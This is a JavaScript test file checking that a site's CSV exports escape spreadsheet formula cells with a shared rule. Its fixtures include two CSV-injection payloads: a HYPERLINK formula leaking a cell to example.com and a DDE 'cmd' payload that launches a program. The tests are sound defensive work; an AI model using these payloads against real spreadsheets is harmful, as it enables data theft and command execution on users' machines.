// The compare view's "CSV of this comparison" (assets/js/compare.js, written in the browser) and the
// data stage's CSVs (scripts/lib/csv.mjs) escape formula cells by one rule, scripts/lib/csv-cell.mjs
// (mounted for Hugo as assets/js/csv-cell.js):
// a hostile title or software name opens in a spreadsheet as text, never as a formula.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { csvField } from './csv-cell.mjs';
import { fromCsv, toCsv } from './csv.mjs';

const TITLE = '=HYPERLINK("https://example.com/?leak="&A2,"Click")';
const SOFTWARE = "-2+3+cmd|' /C calc'!A0";

test("the compare view's CSV writes a formula title and software name with a leading ', as the data CSVs do", () => {
  const line = [TITLE, SOFTWARE, 12.5, -3, null].map(csvField).join(',');
  assert.equal(line, `"'=HYPERLINK(""https://example.com/?leak=""&A2,""Click"")",'-2+3+cmd|' /C calc'!A0,12.5,-3,`);
  const server = toCsv(
    [{ title: TITLE, software: SOFTWARE, value: 12.5, delta: -3, none: null }],
    ['title', 'software', 'value', 'delta', 'none'],
  );
  assert.equal(server.split('\n')[1], line, 'the same cells as the data stage writes');
  assert.deepEqual(fromCsv(server).records[0].cells, [TITLE, SOFTWARE, '12.5', '-3', '']);
});

test("the compare view's CSV keeps numbers and plain names as they are", () => {
  assert.deepEqual(['-5', '+0.24', 'hackney', 'a=b', -1.5].map(csvField), ['-5', '+0.24', 'hackney', 'a=b', '-1.5']);
});

test('the compare view writes its CSV with the shared rule, not a copy of it', () => {
  const src = fs.readFileSync(new URL('../../assets/js/compare.js', import.meta.url), 'utf8');
  assert.match(src, /import \{ csvField \} from '\.\/csv-cell\.js'/);
  assert.doesNotMatch(src, /const csvField\b/);
});
